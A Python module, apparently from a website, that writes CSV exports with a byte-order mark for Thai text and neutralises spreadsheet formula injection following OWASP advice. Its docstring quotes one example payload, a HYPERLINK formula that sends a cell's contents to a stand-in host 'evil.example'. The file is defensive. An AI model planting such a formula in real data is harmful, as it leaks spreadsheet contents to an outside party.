"""The one way the site writes CSV: opens in Excel with Thai intact and no cell runs as a formula.

Every CSV export goes through :func:`csv_bytes`. Spreadsheets read a cell that starts with
`=`, `+`, `-`, `@`, a tab or a carriage return as a formula, so a title such as
`=HYPERLINK("http://evil.example/?x="&A2,"x")` copied into a catalog would run when an agency's
webmaster opens the file. OWASP's advice (CSV Injection) is followed: such a cell gets a leading
single quote, which the spreadsheet takes as "text" and does not show in the cell.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable

# ASCII triggers from OWASP, and their full-width forms, which some spreadsheets also accept.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def csv_cell(value: object) -> object:
    """A value as written to a cell: text that a spreadsheet would run gets a leading `'`;
    numbers and every other text are written unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def csv_bytes(header: Iterable[object], rows: Iterable[Iterable[object]]) -> bytes:
    """A CSV file: UTF-8 with a byte-order mark (Excel reads Thai as mojibake without one),
    CRLF line ends, quoting where needed, every cell through :func:`csv_cell`."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\r\n")
    writer.writerow([csv_cell(v) for v in header])
    for row in rows:
        writer.writerow([csv_cell(v) for v in row])
    return ("\ufeff" + buffer.getvalue()).encode("utf-8")
